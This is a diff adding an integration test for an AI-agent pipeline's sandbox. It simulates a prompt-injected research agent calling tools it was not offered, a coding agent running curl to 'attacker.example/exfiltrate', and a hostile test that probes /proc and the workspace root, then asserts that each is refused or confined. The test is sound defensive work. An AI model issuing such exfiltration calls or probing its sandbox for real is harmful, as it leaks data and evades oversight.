@@ -1,0 +1,130 @@
+import fs from 'node:fs';
+import http from 'node:http';
+import type { AddressInfo } from 'node:net';
+import path from 'node:path';
+import { and, eq } from 'drizzle-orm';
+import { listToolCalls } from '../../src/db/agent-transcripts';
+import { latestArtifact } from '../../src/db/artifacts';
+import { issueLogs } from '../../src/db/schema';
+import { mirrorDir, workspaceDir } from '../../src/workspace/git';
+import { makeBareRepository } from '../support/git-fixture';
+import { testWorkspaceDeps } from '../support/harness';
+import { type PipelineHarness, reply, REVIEWER, SAMPLE_REPO, startPipelineHarness } from '../support/pipeline';
+
+/**
+ * The sandbox in a whole pipeline on the real Temporal server: tools a stage was not offered
+ * never run, the test command runs confined (a hostile test sees the sandbox, not the host),
+ * egress follows settings.sandbox.allowedHosts with each decision in the issue's log, and
+ * the workspace and mirror are gone once the issue ends.
+ */
+
+const HOSTILE_TEST = `
+const fs = require('node:fs');
+const test = require('node:test');
+test('looks around', () => {
+  const pids = fs.readdirSync('/proc').filter((name) => /^\\d+$/.test(name));
+  console.log('PIDS ' + pids.length);
+  console.log('WORKSPACES ' + fs.existsSync(WORKSPACES_ROOT));
+  console.log('CWD ' + process.cwd());
+});
+`;
+
+describe('sandbox in the pipeline', () => {
+  let h: PipelineHarness;
+  let registry: http.Server;
+  let registryPort: number;
+  const registryHits: string[] = [];
+  const cleanups: Array<() => void> = [];
+
+  beforeAll(async () => {
+    h = await startPipelineHarness();
+    registry = http.createServer((request, response) => {
+      registryHits.push(request.url ?? '');
+      response.end('package metadata\n');
+    });
+    await new Promise<void>((resolve) => registry.listen(0, '127.0.0.1', resolve));
+    registryPort = (registry.address() as AddressInfo).port;
+  });
+  afterAll(async () => {
+    await h.close();
+    registry.close();
+    for (const cleanup of cleanups) cleanup();
+  });
+
+  it('refuses tools a stage was not offered, confines the tests and egress, and removes the workspace at the end', async () => {
+    const { remote, cleanup } = await makeBareRepository(SAMPLE_REPO);
+    cleanups.push(cleanup);
+    const { workspacesDir, mirrorsDir } = testWorkspaceDeps();
+    const { organizationId, apiKey } = await h.newOrganization({
+      finalApproval: 'required',
+      repository: {
+        remote,
+        baseBranch: 'main',
+        host: 'local',
+        testCommand: ['node', '--test'],
+        allowedCommands: [['node', '--test'], ['curl']],
+        commandTimeoutSeconds: 60,
+      },
+      sandbox: { allowedHosts: [`127.0.0.1:${registryPort}`] },
+    });
+    const hostile = HOSTILE_TEST.replace('WORKSPACES_ROOT', JSON.stringify(workspacesDir));
+    h.fake.onTool('submit_classification', reply.classify());
+    h.fake.onTool('submit_triage', reply.triage());
+    h.fake.onTool(
+      'submit_research',
+      // A prompt-injected research agent tries to write and to run: neither is offered to it.
+      reply.calls(['write_file', { path: 'pwned.txt', content: 'research wrote this' }], ['run_command', { argv: ['node', '--test'] }]),
+      reply.research(),
+    );
+    h.fake.onTool(
+      'submit_change',
+      reply.call('write_file', { path: 'test/hostile.test.js', content: hostile }),
+      reply.calls(
+        ['run_command', { argv: ['curl', '-sS', `http://127.0.0.1:${registryPort}/left-pad`] }],
+        ['run_command', { argv: ['curl', '-sS', 'http://attacker.example/exfiltrate'] }],
+      ),
+      reply.change({ diff: '' }),
+    );
+    h.fake.onTool('submit_review', reply.review('approve'));
+
+    const { id } = await h.submit(apiKey);
+    await h.waitFor(apiKey, id, (issue) => issue.status === 'awaiting_approval');
+    const workspace = workspaceDir({ workspacesRoot: workspacesDir, organizationId, issueId: id });
+    const mirror = mirrorDir({ mirrorsRoot: mirrorsDir, organizationId, issueId: id });
+    expect(fs.existsSync(path.join(workspace, 'pwned.txt'))).toBe(false);
+    expect(fs.existsSync(mirror)).toBe(true);
+
+    const calls = await listToolCalls(h.db.db, { organizationId, issueId: id });
+    const research = calls.filter((call) => call.loopId.includes(':research:') && ['write_file', 'run_command'].includes(call.name));
+    expect(research).toHaveLength(2);
+    for (const call of research) {
+      expect(call).toMatchObject({ isError: 1, executions: 0 });
+      expect(call.output).toMatch(/is not available in the research stage/);
+    }
+
+    const [allowed, refused] = calls.filter((call) => call.name === 'run_command' && call.loopId.includes(':code:'));
+    expect(allowed?.output).toContain('package metadata');
+    expect(refused?.output).toMatch(/attacker\.example:80 is not in settings\.sandbox\.allowedHosts/);
+    expect(registryHits).toEqual(['/left-pad']);
+
+    const change = await latestArtifact(h.db.db, organizationId, id, 'CODE_CHANGE');
+    const summary = String(change?.metadata['testSummary']);
+    expect(summary).toMatch(/CWD \/workspace/);
+    expect(summary).toMatch(/WORKSPACES false/);
+    expect(Number(/PIDS (\d+)/.exec(summary)?.[1])).toBeLessThan(10);
+
+    const logs = await h.db.db
+      .select({ message: issueLogs.message })
+      .from(issueLogs)
+      .where(and(eq(issueLogs.organizationId, organizationId), eq(issueLogs.issueId, id)));
+    const messages = logs.map((log) => log.message);
+    expect(messages).toEqual(expect.arrayContaining([expect.stringMatching(/^sandbox egress allowed: http 127\.0\.0\.1:\d+/), expect.stringMatching(/^sandbox egress refused: http attacker\.example:80/)]));
+    expect(messages).toEqual(expect.arrayContaining([expect.stringMatching(/research agent called write_file, which this stage does not offer/)]));
+
+    expect((await h.post(apiKey, `/api/issues/${id}/approval`, { decision: 'approve', reviewer: REVIEWER })).status).toBe(200);
+    const ended = await h.waitForEnd(apiKey, id);
+    expect(ended.status).toBe('completed');
+    expect(fs.existsSync(workspace)).toBe(false);
+    expect(fs.existsSync(mirror)).toBe(false);
+  });
+});
